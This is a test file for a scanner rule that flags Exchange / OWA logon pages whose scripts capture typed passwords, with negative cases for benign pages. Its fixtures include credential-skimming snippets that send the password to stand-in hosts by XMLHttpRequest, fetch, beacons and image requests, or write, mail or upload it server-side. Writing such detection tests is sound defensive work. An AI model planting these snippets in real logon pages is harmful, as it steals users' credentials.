import assert from 'node:assert/strict'
import { test } from 'node:test'
import { passwordFlow } from '../../src/rules/web-shells/typed-passwords.ts'

const R = ['Req', 'uest'].join('')
const script = (code: string): string =>
  `function gbid(s) { return document.getElementById(s); }\nfunction clkLgn() {\n${code}\nif (gbid("password").value == "") { return; }\ndocument.logonForm.submit();\n}`
const page = (code: string, logon = 'action="/owa/auth.owa"'): string =>
  `<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %><script runat="server">${code}</script><form ${logon}></form>`
const finds = (text: string): boolean => passwordFlow.scan(Buffer.from(text)).length > 0

for (const [what, text] of [
  [
    'a request to another site',
    script('var x = new XMLHttpRequest(); x.open("GET", "https://a.example/?p=" + gbid("password").value); x.send();'),
  ],
  [
    'its value by way of a name and Base64',
    script(
      'var q = gbid("password"); var d = btoa(q.value);\nvar x = new XMLHttpRequest();\nx.open("POST", "//a.example/c", true);\nx.send("d=" + d);',
    ),
  ],
  [
    'the whole form',
    script('fetch("https://a.example/c", {\n method: "POST",\n body: new FormData(document.logonForm)\n});'),
  ],
  ['a picture', script("var u = 'http://192.0.2.9/i.gif?' + document.logonForm.password.value; new Image().src = u;")],
  [
    'an address in Base64',
    script('var a = atob("aHR0cHM6Ly9hLmV4YW1wbGUv"); navigator.sendBeacon(a, gbid("password").value);'),
  ],
  ['a library of scripts', script('$.post("https://a.example/c", { u: 1, p: $("#password").val() });')],
  ['a file', page(`string p = ${R}.Form["password"]; File.AppendAllText(@"C:\\Windows\\Temp\\a.log", p);`)],
  [
    'a writer of a file',
    page(`var p = ${R}["password"]; var w = new StreamWriter("x.css", true); w.WriteLine(p); w.Close();`),
  ],
  [
    'a message',
    page(`var p = ${R}.Form["password"]; var m = new MailMessage("a@b.example", "c@d.example", "x", p); s.Send(m);`),
  ],
  ['another server', page(`var w = new WebClient(); w.UploadString("http://192.0.2.9/", ${R}.Form["passwordText"]);`)],
] as const)
  void test(`the logon page gives the typed password to ${what}`, () => assert.ok(finds(text)))

for (const [what, text] of [
  ['only submits its form', script('')],
  [
    'sends the name of the user to a service',
    script(
      'var x = new XMLHttpRequest(); x.open("POST", "https://mfa.example/start"); x.send(gbid("username").value);',
    ),
  ],
  [
    'sends a code to its own site',
    script('var x = new XMLHttpRequest(); x.open("POST", "/owa/mfa/verify"); x.send("otp=" + gbid("password").value);'),
  ],
  [
    'loads a picture from elsewhere',
    script('var p = gbid("password"); p.focus(); img.src = "https://a.example/logo.png";'),
  ],
  ['writes who logged on', page(`string u = ${R}.Form["username"]; File.AppendAllText("a.log", u);`)],
  [
    'is none of Exchange and writes who changed the password',
    `<%@ Page language="c#" %><script runat="server">var p = ${R}.Form["password"]; u.ChangePassword(p, n); File.AppendAllText("a.log", u.Name);</script>`,
  ],
] as const)
  void test(`no finding: a page that ${what}`, () => assert.ok(!finds(text)))

void test('another page that keeps the typed password in a file is less certain', () => {
  const kept = `<%@ Page language="c#" %><script runat="server">var p = ${R}.Form["password"]; File.AppendAllText("a.log", p);</script>`
  assert.deepEqual(
    [kept, page(`File.AppendAllText("a.log", ${R}.Form["password"]);`)].map(
      (text) => passwordFlow.scan(Buffer.from(text))[0]?.rule,
    ),
    ['flow-keeps-passwords', 'flow-takes-passwords'],
  )
})
